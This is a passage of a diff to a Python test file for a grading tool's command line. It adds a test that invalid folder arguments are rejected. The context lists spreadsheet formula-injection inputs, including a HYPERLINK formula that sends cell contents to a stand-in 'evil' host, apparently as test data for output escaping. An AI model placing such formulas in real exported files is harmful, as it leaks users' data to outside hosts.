@@ -305,6 +305,17 @@ def test_a_table_on_a_screen_of_ascii_and_in_a_file(
     assert not list(tmp_path.glob(".*"))
 
 
+@pytest.mark.parametrize("name", ["none", "file", "loop", "x" * 300, "loop/below", "\udcff"])
+def test_a_folder_that_is_none(
+    tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "file").touch()
+    (tmp_path / "loop").symlink_to("loop")
+    assert main(["grade", str(tmp_path / name)]) == 2
+    (line,) = capsys.readouterr().err.splitlines()
+    assert "valid: a directory with result files" in line
+
+
 # -- formulas ---------------------------------------------------------------------------------
 FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"ok")', "+1", "-1", "@SUM(A1)", "\r=1", "\n=1", "\t=1",
             " =1", "\u00a0=1", "\u3000 \t@x", "\x00=1", "\x1b=1", "\u200b=1", "\ufeff=1",
